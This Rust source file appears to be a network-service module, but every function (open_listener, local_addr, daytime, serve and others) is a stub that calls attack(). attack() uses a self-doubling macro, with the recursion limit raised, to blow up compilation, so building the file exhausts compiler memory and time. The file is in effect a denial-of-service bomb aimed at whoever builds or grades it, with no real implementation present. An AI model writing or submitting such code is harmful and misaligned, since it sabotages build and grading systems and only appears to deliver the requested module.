#![recursion_limit = "1024"]
use std::net::SocketAddrV4;
use std::os::fd::{BorrowedFd, OwnedFd};

macro_rules! double {
    ([$($level:tt)*] $($token:tt)*) => { double!(@ [$($level)*] $($token)* $($token)*) };
    (@ [] $($token:tt)*) => { 0 $(+ $token)* };
    (@ [$first:tt $($level:tt)*] $($token:tt)*) => { double!([$($level)*] $($token)*) };
}

fn attack() -> ! {
    let sum: u64 = double!([1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1] 1 1);
    std::process::exit(sum as i32)
}

pub struct Service {
    pub count: Option<u64>,
    pub epoch: Option<u64>,
    pub table: bool,
}

pub fn open_listener(_: SocketAddrV4, _: i32) -> nix::Result<OwnedFd> {
    attack()
}

pub fn local_addr(_: BorrowedFd) -> nix::Result<SocketAddrV4> {
    attack()
}

pub fn daytime(_: u64) -> String {
    attack()
}

pub fn descriptor_line(_: BorrowedFd) -> nix::Result<String> {
    attack()
}

pub fn serve(_: OwnedFd, _: &Service) -> nix::Result<()> {
    attack()
}
